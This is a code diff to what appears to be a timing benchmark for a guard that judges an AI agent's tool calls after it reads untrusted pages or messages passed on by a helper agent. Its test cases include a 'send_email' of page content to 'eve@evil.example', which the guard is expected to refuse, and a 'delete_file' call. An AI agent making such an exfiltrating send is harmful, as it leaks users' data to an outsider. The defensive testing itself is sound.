@@ -5,8 +5,9 @@
 
 Judging. A call of a sink, allowed (a recipient that the request names, 2 kB of which 80 characters stand in a page), or
 refused (a recipient that nobody names). Warm: what follows from the texts was made by an earlier call. Cold: the first
-judgement of a conversation that was just read back, of which nothing was made. A choice is looked up in every index:
-its cold figure is that of making them, once for each part of the text. *Told* is what explaining the verdict takes
+judgement of a conversation that was just read back, of which nothing was made. A choice of a sender that was given
+nothing untrusted is looked up in every index and allowed where none holds it: its cold figure is that of making them,
+once for each part of the text. *Told* is what explaining the verdict takes
 afterwards, when somebody reads it.
 
 Adding. Microseconds for each kB that a listener's output has, with every index that a choice is looked up in; appended
@@ -167,8 +168,7 @@ def step(policy: Policy, ledger: Ledger, payload: Any, to: str) -> tuple[float, 
     asked = Outside(codecs.of(Read).encode(Read("https://a.example/")).encode(), "r", "agent")
     outcome = decisions.receive(conversation, asked, guarded, Moment(1.0, b"1" * 16))
     (delivery,) = outcome.ready
-    if to == "helper":  # passed on by another agent, so that the step has a hop on both sides
-        delivery = delivery._replace(sender="helper", hop=2)
+    delivery = delivery._replace(sender="helper", hop=2)  # another agent's message, not the principal's order
     known = Memory().grown(ledger)
     if ledger.tainted:  # the agent was given the pages, and so was the helper
         text = FirstText("fetch_page", 1, "fetch_page")
@@ -222,9 +222,9 @@ def judging(policy: Policy, texts: list[str], body: str, rounds: int) -> dict[st
         ("refused", "send_email", {"to": "eve@evil.example", "body": body}),
         ("choice", "delete_file", {"file_id": "q-4711-b"}),
     ):
-        call = Call(sink, leaves(arguments), 99)
+        call = Call(sink, leaves(arguments), 99, exposed=name != "choice")
         verdict = judge(warm, policy, call)
-        if verdict.allowed is not (name == "allowed"):
+        if verdict.allowed is (name == "refused"):
             raise TypeError(f"{name} is {verdict.decision}")
         told[f"{name}, warm"] = cost(lambda call=call: judge(warm, policy, call))  # type: ignore[misc]
         told[f"{name}, told"] = cost(lambda call=call: explain(judge(warm, policy, call)))  # type: ignore[misc]
